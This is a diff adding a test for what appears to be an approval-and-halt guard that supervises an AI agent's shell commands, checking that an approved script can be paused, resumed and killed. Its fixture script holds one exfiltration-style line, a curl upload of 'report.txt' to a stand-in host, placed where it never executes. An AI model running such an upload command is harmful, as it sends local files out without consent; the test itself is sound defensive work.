@@ -210,3 +210,40 @@ def test_the_certificate_is_checked_offline(busy: Guard, running: Running, tmp_p
     assert "confirmed" in busy.cli("halt", "certificate", number).stdout
     assert busy.cli("verify").returncode == 0
     assert verify(busy.home.state / "ledger").size > 0
+
+
+LOUD = """#!/bin/sh
+while :; do echo tick; sleep 0.02; done
+if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi
+"""
+
+
+def test_an_approved_command_stops_as_well_and_its_yes_starts_nothing_under_an_order(cold: Guard) -> None:
+    cold.configure("[ask]\nhold_seconds = 0\n")
+    subprocess.run(["git", "init", "-q", str(cold.project)], check=True)
+    script = cold.project / "deploy.sh"
+    script.write_text(LOUD)
+    script.chmod(0o755)
+    cold.start()
+
+    def approved() -> None:
+        cold.said_no(cold.hook("Bash", {"command": "./deploy.sh"}))
+        asked = call(cold.home, "inbox")[-1]
+        call(cold.home, "approve", {"id": asked["id"], "code": asked["fingerprint"].rsplit("-", 1)[1]})
+
+    approved()
+    running = Running(cold, "./deploy.sh")
+    try:
+        running.at_work()
+        done = order(cold, "pause", 'session = "session-1"')
+        assert done["processes"] >= 1
+        assert done["silent"] == 0
+        running.ticks(0.5)
+        assert running.ticks(1.5) == 0
+        call(cold.home, "halt.resume", {"session": "session-1"}, timeout=60)
+        running.at_work()
+        order(cold, "kill", 'session = "session-1"')
+        assert running.process.wait(20) != 0
+    finally:
+        running.end()
+    assert cold.cli("verify").returncode == 0
